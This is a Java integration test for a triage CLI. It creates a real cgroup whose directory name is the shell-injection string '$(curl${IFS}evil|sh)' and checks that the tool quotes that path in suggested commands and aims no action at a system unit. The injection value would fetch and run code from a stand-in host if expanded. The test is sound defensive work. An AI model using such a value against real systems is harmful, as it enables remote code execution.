package io.triagebot.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.triagebot.testsupport.CliRun;
import io.triagebot.testsupport.LiveTests;
import io.triagebot.testsupport.TestSshd;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A user's cgroup named like a system unit, for real: under {@code user.slice/user-1000.slice/user@1000.service/}
 * on this machine's cpu hierarchy, a directory called {@code $(curl${IFS}evil|sh)} holding a
 * {@code postgresql.service} leaf, held to 5% of a CPU with a busy loop inside. Triaged over the test sshd,
 * the throttling is reported, but no action is aimed at a system unit, and every suggested command that
 * names the cgroup quotes it.
 */
class UserCgroupNamesIT {

    private static final String EVIL = "$(curl${IFS}evil|sh)";
    private static final String REL = "/user.slice/user-1000.slice/user@1000.service/" + EVIL + "/postgresql.service";

    @TempDir
    Path dir;

    @Test
    void aUserCgroupNamedLikeASystemUnitSteersNoActionAndIsQuotedInCommands() throws Exception {
        Path cpu = Path.of("/sys/fs/cgroup/cpu");
        LiveTests.requireOrSkip(LiveTests.isRoot() && Files.isWritable(cpu.resolve("cgroup.procs")),
                "needs root and the cgroup v1 cpu hierarchy at /sys/fs/cgroup/cpu");
        Path leaf = cpu.resolve(REL.substring(1));
        List<Path> created = new ArrayList<>();
        Process burner = null;
        try (TestSshd sshd = TestSshd.start()) {
            for (Path p = leaf; !p.equals(cpu); p = p.getParent()) {
                if (!Files.exists(p)) {
                    created.add(0, p);
                }
            }
            for (Path p : created) {
                Files.createDirectory(p);
            }
            Files.writeString(leaf.resolve("cpu.cfs_period_us"), "100000");
            Files.writeString(leaf.resolve("cpu.cfs_quota_us"), "5000");
            burner = new ProcessBuilder("sh", "-c", "while :; do :; done").start();
            Files.writeString(leaf.resolve("cgroup.procs"), Long.toString(burner.pid()));
            awaitThrottled(leaf);

            Path config = sshd.writeClientConfig(dir.resolve("config"), "db-user");
            CliRun run = CliRun.of("triage", "db-user", "--json", "--ssh-config", config.toString(), "--window", "1");
            assertEquals(ExitCodes.OK, run.exit(), run.err());
            JsonNode report = new ObjectMapper().readTree(run.out());
            JsonNode throttled = null;
            for (JsonNode f : report.get("findings")) {
                for (JsonNode rb : f.get("runbooks")) {
                    assertFalse(rb.toString().contains("postgresql.service"), "an action aimed at the system unit: " + rb);
                    assertFalse(rb.get("id").asText().startsWith("unit-"), "a unit action from a user's cgroup: " + rb);
                }
                if (f.toString().contains("postgresql.service")) {
                    throttled = f;
                }
            }
            assertTrue(throttled != null, "the throttled cgroup is not reported:\n" + run.out());
            boolean named = false;
            for (JsonNode c : throttled.get("nextCommands")) {
                String command = c.asText();
                if (command.contains(EVIL)) {
                    named = true;
                    assertTrue(command.contains("'/sys/fs/cgroup/cpu" + REL + "/"), "unquoted host path: " + command);
                }
                assertFalse(command.contains("systemctl"), "a systemctl command for a user's cgroup: " + command);
            }
            assertTrue(named, "no next command reads the cgroup: " + throttled);
        } finally {
            if (burner != null) {
                burner.destroyForcibly().waitFor(10, TimeUnit.SECONDS);
            }
            for (int i = created.size() - 1; i >= 0; i--) {
                removeCgroup(created.get(i));
            }
        }
    }

    /** Polls cpu.stat until the kernel has throttled the group a few times (bounded). */
    private static void awaitThrottled(Path group) throws Exception {
        long until = System.nanoTime() + TimeUnit.SECONDS.toNanos(10);
        while (System.nanoTime() < until) {
            for (String line : Files.readAllLines(group.resolve("cpu.stat"))) {
                if (line.startsWith("nr_throttled ") && Long.parseLong(line.substring(13).trim()) >= 5) {
                    return;
                }
            }
            Thread.sleep(50);
        }
        throw new AssertionError("the busy loop was never throttled in " + group);
    }

    /** rmdir of a cgroup fails while a process is still leaving it: retry briefly. */
    private static void removeCgroup(Path group) throws Exception {
        for (int i = 0; i < 50 && Files.exists(group); i++) {
            try {
                Files.delete(group);
            } catch (java.io.IOException e) {
                Thread.sleep(100);
            }
        }
    }
}
